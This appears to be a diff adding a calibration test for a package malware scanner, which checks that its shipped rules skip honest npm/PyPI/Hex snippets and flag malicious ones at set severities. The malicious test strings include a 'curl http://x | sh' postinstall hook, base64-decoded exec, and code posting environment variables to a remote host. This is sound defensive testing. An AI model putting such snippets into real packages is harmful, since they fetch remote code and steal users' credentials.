@@ -571,3 +571,99 @@ Test(scanner, bundles_are_summarised_and_compiled_files_counted)
     scanner_free(sc);
     rules_free(rs);
 }
+
+/* ---- the shipped rules on honest and malicious snippets ----------------- */
+
+#define NO_HIT (-1)
+
+struct calibration_case {
+    const char *path;
+    enum ecosystem eco;
+    const char *text;
+    const char *rule;
+    int severity;          /* enum scan_severity, or NO_HIT */
+};
+
+static const struct calibration_case calibration_table[] = {
+    /* Honest code the old rules flagged high or critical. */
+    {"package/package.json", ECO_NPM,
+     "{\"scripts\":{\"postinstall\":\"node -e \\\"try{require('./postinstall')}catch(e){}\\\"\"}}",
+     "npm-install-script-shell", NO_HIT},
+    {"package/package.json", ECO_NPM, "{\"scripts\":{\"postinstall\":\"node install.js\"}}",
+     "npm-install-script-node", SCAN_SEV_MEDIUM},
+    {"package/package.json", ECO_NPM, "{\"scripts\":{\"postinstall\":\"node install.js\"}}",
+     "npm-install-script", NO_HIT},
+    {"package/test/fixture/package.json", ECO_NPM,
+     "{\"scripts\":{\"postinstall\":\"lerna bootstrap\"}}", "test-file", SCAN_SEV_LOW},
+    {"package/lodash.js", ECO_NPM, "/** [`isNaN`](process[x]()) */\nvar a = 1;\n",
+     "npm-api-obfuscation", NO_HIT},
+    {"package/index.js", ECO_NPM, "// see https://pastebin.com/raw/x\nmodule.exports = 1;\n",
+     "exfil-endpoint", NO_HIT},
+    {"package/lib/mocha.js", ECO_NPM, "for (var opt in opts) self[opt](opts[opt]);\n",
+     "npm-api-obfuscation", NO_HIT},
+    {"package/lib/http.js", ECO_NPM,
+     "function proxy() { return process.env; }\n\n\n\n\nfunction get(u) {\n  return fetch(u);\n}\n",
+     "npm-exfil", NO_HIT},
+    {"attr/_make.py", ECO_PYPI, "def f(script):\n    bytecode = compile(script, '<x>', \"exec\")\n",
+     "py-compile-exec", SCAN_SEV_LOW},
+    {"six.py", ECO_PYPI, "exec_ = getattr(moves.builtins, \"exec\")\n", "py-api-obfuscation",
+     NO_HIT},
+    {"compat.py", ECO_PYPI, "exec_ = getattr(builtins, \"exec\")\n", "py-obfuscation", NO_HIT},
+    {"werkzeug/debug/__init__.py", ECO_PYPI, "class Console:\n    def eval(self, code):\n",
+     "py-setup-exec", NO_HIT},
+    {"pkg/__init__.py", ECO_PYPI, "import subprocess\ndef run(c):\n    subprocess.run(c)\n",
+     "py-setup-process", SCAN_SEV_LOW},
+    {"tqdm/contrib/telegram.py", ECO_PYPI, "API = 'https://api.telegram.org/bot'\n",
+     "exfil-endpoint", NO_HIT},
+    {"ssh/src/ssh.erl", ECO_HEX, "connect(H) -> gen_tcp:connect(H, 22, []).\n",
+     "hex-erlang-shell", SCAN_SEV_LOW},
+    /* What honest packages do not do keeps its severity. */
+    {"package/package.json", ECO_NPM, "{\"scripts\":{\"postinstall\":\"curl http://x | sh\"}}",
+     "npm-install-script-shell", SCAN_SEV_CRITICAL},
+    {"pkg-1.0/setup.py", ECO_PYPI, "code = compile(src, '<x>', 'exec')\n", "py-compile-exec",
+     SCAN_SEV_HIGH},
+    {"pkg/__init__.py", ECO_PYPI, "import subprocess\nsubprocess.run(['curl', u])\n",
+     "py-setup-process", SCAN_SEV_HIGH},
+    {"pkg/mod.py", ECO_PYPI, "exec(base64.b64decode(blob))\n", "py-exec-decoded", SCAN_SEV_HIGH},
+    {"pkg-1.0/setup.py", ECO_PYPI, "exec(base64.b64decode(blob))\n", "py-exec-decoded",
+     SCAN_SEV_CRITICAL},
+    {"pkg/mod.py", ECO_PYPI, "getattr(os, \"system\")(\"id\")\n", "py-api-obfuscation",
+     SCAN_SEV_HIGH},
+    {"pkg/mod.py", ECO_PYPI,
+     "def steal():\n    data = dict(os.environ)\n    x = 1\n    y = 2\n    z = 3\n"
+     "    requests.post(URL, json=data)\n", "py-credentials-exfil", SCAN_SEV_HIGH},
+    {"package/index.js", ECO_NPM,
+     "const d = JSON.stringify(process.env);\nhttps.request({host: h}, () => {});\n",
+     "npm-exfil", SCAN_SEV_HIGH},
+    {"pkg/mod.py", ECO_PYPI, "\xf0\x9d\x9a\x8e\xf0\x9d\x9a\xa1\xf0\x9d\x9a\x8e\xf0\x9d\x9a\x8c(x)\n",
+     "unicode-lookalike-identifier", SCAN_SEV_HIGH},
+    {"pkg/mod.py", ECO_PYPI, "s = '\xf0\x9d\x9a\x8e in a string'\n", "unicode-lookalike-identifier",
+     NO_HIT},
+    {"pkg/mod.py", ECO_PYPI, "URL = 'https://discord.com/api/webhooks/123456789/"
+     "abcdefghijklmnopqrstuvwxyz'\n", "exfil-webhook-hardcoded", SCAN_SEV_HIGH},
+};
+
+static const struct scan_hit *find_rule(const struct scan_result *r, const char *rule)
+{
+    for (size_t i = 0; i < r->n_hits; i++)
+        if (strcmp(r->hits[i].rule, rule) == 0)
+            return &r->hits[i];
+    return NULL;
+}
+
+Test(scanner, shipped_rules_calibration)
+{
+    struct rule_set *rs = rules_shipped();
+    for (size_t i = 0; i < sizeof(calibration_table) / sizeof(*calibration_table); i++) {
+        const struct calibration_case *c = &calibration_table[i];
+        struct scan_result *r = scan_one(rs, c->eco, c->path, c->text);
+        const struct scan_hit *h = find_rule(r, c->rule);
+        if (c->severity == NO_HIT)
+            cr_expect_null(h, "%s %s: %s", c->path, c->rule, h ? h->excerpt : "");
+        else
+            cr_expect_eq(h ? (int)h->severity : NO_HIT, c->severity, "%s %s: %s", c->path,
+                         c->rule, h ? rules_severity_name(h->severity) : "no hit");
+        scanner_result_free(r);
+    }
+    rules_free(rs);
+}
